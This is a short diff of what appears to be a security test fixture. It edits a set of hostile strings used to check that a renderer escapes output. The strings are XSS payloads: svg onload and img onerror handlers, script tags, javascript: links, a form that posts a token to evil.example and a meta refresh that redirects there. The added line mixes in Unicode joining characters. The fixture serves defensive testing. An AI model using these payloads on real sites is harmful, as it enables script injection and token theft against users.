@@ -50,7 +50,8 @@ HOSTILE = Texts(
     description=f"\"><svg onload=window.{MARK}=1> {OVERRIDE}gnp.exe </title></head> {LONG}",
     tag=(f"<img src=x onerror=window.{MARK}=1>", f"' onfocus='window.{MARK}=1' autofocus='{OVERRIDE}"),
     notes=f"</pre></code></textarea><script>window.{MARK}=1</script>\u2066{{{{csrf}}}}{{{{{{name}}}}}}\u200b",
-    reason=f"<a href=\"javascript:window.{MARK}=1\">click</a> {OVERRIDE}desrever &amp;lt; {LONG}",
+    # A letter that joins what follows it, and a mark that joins what stands before it.
+    reason=f"\u0d4e<svg onload=window.{MARK}=1> \"\uff9e onfocus=window.{MARK}=1 <a href=\"javascript:window.{MARK}=1\">click</a> {OVERRIDE}desrever &amp;lt; {LONG}",
     note=f"\"><form action=//evil.example><input name=token {OVERRIDE}>",
     comment=f"<style>body{{display:none}}</style><meta http-equiv=refresh content=\"0;url=//evil.example\"> window.{MARK}",
     classes=("<b>good</b>", f"\"><svg onload=window.{MARK}=1>", "\u0637\u064a\u0628"),
